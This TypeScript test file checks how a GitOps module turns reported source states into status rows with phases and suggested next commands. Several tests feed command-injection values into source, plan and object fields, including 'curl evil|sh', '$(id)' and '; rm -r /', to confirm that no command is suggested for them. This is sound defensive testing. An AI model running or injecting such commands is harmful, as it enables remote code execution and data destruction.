import { create, type MessageInitShape, toBinary } from '@bufbuild/protobuf'
import t from 'tap'
import { type ReportedFacts, shortRow, sourceRow } from '../../../../../src/kas/modules/gitops/source-row.ts'
import { Left, Phase, SourceStateSchema } from '../../../../../src/proto/gen/gitops_states_pb.ts'
import { reasonPhases } from '../../../../../src/proto/gitops/source-phase.ts'

type Facts = Omit<MessageInitShape<typeof SourceStateSchema>, '$typeName'>

const reported = (facts: Facts, rest: Partial<ReportedFacts> = {}): ReportedFacts => {
  const state = { source: '42-7', project: 'a/b', ...facts }
  return { state: toBinary(SourceStateSchema, create(SourceStateSchema, state)), ageMs: 1200, live: true, ...rest }
}
const noHint = () => undefined
const rowOf = (facts: Facts) => sourceRow(reported(facts), noHint)

t.test('facts that a row says in other words are not among its keys', async (t) => {
  const row = sourceRow(reported({ phase: Phase.SYNCED, commit: 'c1' }, { live: false }), noHint)
  t.match(row, { source: '42-7', phase: 'SYNCED', commit: 'c1', next: '', age_ms: 1200, stale: true })
  for (const key of ['removed', 'left', 'is_waiting_for_others', 'is_cut']) t.notOk(key in (row as object), key)
  t.equal(rowOf({ removed: true }), undefined)
})

t.test('the phase is what matters most of all that is known', async (t) => {
  for (const [facts, phase] of [
    [{ phase: Phase.APPLYING }, 'APPLYING'],
    [{ phase: Phase.PRUNING, isWaitingForOthers: true }, 'WAITING_FOR_OTHERS'],
    [{ phase: Phase.APPROVAL, left: Left.REMOVING }, 'REMOVING'],
    [{ phase: Phase.PRUNING, left: Left.REMOVING, isWaitingForOthers: true }, 'REMOVING'],
    [{ phase: Phase.SYNCED, left: Left.KEPT }, 'KEPT'],
    [{ phase: Phase.FAILING, reason: 'ref_not_found' }, 'NOT_READY'],
    [{ phase: Phase.REFUSED, reason: 'files_refused' }, 'REFUSED'],
    [{ phase: Phase.FAILING, reason: 'of_a_later_version' }, 'FAILING'],
  ] as const) {
    t.equal(rowOf(facts)?.phase, phase, JSON.stringify(facts))
  }
})

t.test('each reason has a step, and a project that cannot be read the one of its directory', async (t) => {
  const steps = Object.keys(reasonPhases).map((reason) => [reason, rowOf({ reason, plan: 'p' })?.next])
  t.strictSame(steps, [
    ['configuration_gone', 'bring the agent’s file back, with gitops'],
    ['configuration_unread', 'mend the agent’s file'],
    ['source_refused', 'mend the agent’s file'],
    ['files_refused', 'mend the repository, or what paths choose of it: the commit before holds'],
    ['ref_not_found', 'push that ref, or name another one in the source’s ref'],
    ['project_not_readable', 'let the agent read the project, or name another one in the source’s id'],
    ['not_served', 'this kas serves no GitOps: update it'],
    ['kas_refused', 'it is asked again by itself'],
    ['over_bound', 'ask for less in the agent’s file, or raise the bound of kas'],
  ])
  const hinted = sourceRow(reported({ reason: 'project_not_readable' }), (project) => `let it read ${project}`)
  t.equal(hinted?.next, 'let it read a/b')
})

t.test('what an agent says is in no command, unless it is a word that a shell takes as it stands', async (t) => {
  t.equal(rowOf({ left: Left.KEPT, source: '42-7;curl evil|sh' })?.next, '')
  t.equal(rowOf({ left: Left.KEPT, source: '42-7-shop' })?.next, 'kas gitops forget 42-7-shop')
  const object = '/apis/agent.gitlab.com/v1/namespaces/agentk/gitsyncs/42-7'
  for (const plan of ['x; curl evil|sh', '$(id)', 'a b', 'p\n', '-x'])
    t.equal(rowOf({ phase: Phase.APPROVAL, plan, object })?.next, '', JSON.stringify(plan))
})

t.test('a state that was cut says so', async (t) => {
  t.equal(rowOf({ phase: Phase.FAILING, isCut: true })?.cut, true)
  t.notOk('cut' in (rowOf({ phase: Phase.FAILING }) as object))
})

t.test('what people can do without a reason', async (t) => {
  t.equal(rowOf({ phase: Phase.REFUSED })?.next, 'mend it and push: the commit before holds')
  t.equal(rowOf({ left: Left.KEPT })?.next, 'kas gitops forget 42-7')
  const nextAt = (object: string, facts: Facts = {}) =>
    rowOf({ phase: Phase.APPROVAL, plan: 'p', object, ...facts })?.next
  const sync = '/apis/agent.gitlab.com/v1/namespaces/agentk/gitsyncs/42-7'
  const approve = 'kubectl annotate --overwrite gitsync 42-7 -n agentk agent.gitlab.com/approve=p'
  t.equal(nextAt(sync), approve)
  t.equal(nextAt(sync, { left: Left.KEPT }), approve, 'a plan goes before')
  t.equal(
    nextAt('/api/v1/namespaces/agentk/configmaps/gitops-42-7-sync'),
    'kubectl annotate --overwrite configmap gitops-42-7-sync -n agentk agent.gitlab.com/approve=p',
  )
  t.equal(nextAt(''), '', 'the object is not there yet')
  t.equal(nextAt(`${sync}; rm -r /`), '', 'no path of one')
  t.equal(nextAt(sync, { isCut: true }), '', 'nobody approves what nobody is shown')
})

t.test('a short row names no objects, and asks for no approval', async (t) => {
  const facts = { plan: 'p', object: '/api/v1/namespaces/n/configmaps/c', planned: [{ name: 'a' }], problem: 'x' }
  const long = reported({ ...facts, trouble: [{ text: 'bad' }] })
  t.not(sourceRow(long, noHint)?.next, '')
  t.match(shortRow(long), { plan: 'p', planned: [], trouble: [], problem: '', next: '', cut: true })
  t.match(shortRow(reported({ left: Left.KEPT })), { next: 'kas gitops forget 42-7', cut: true })
  t.equal(shortRow(reported({ removed: true })), undefined)
})
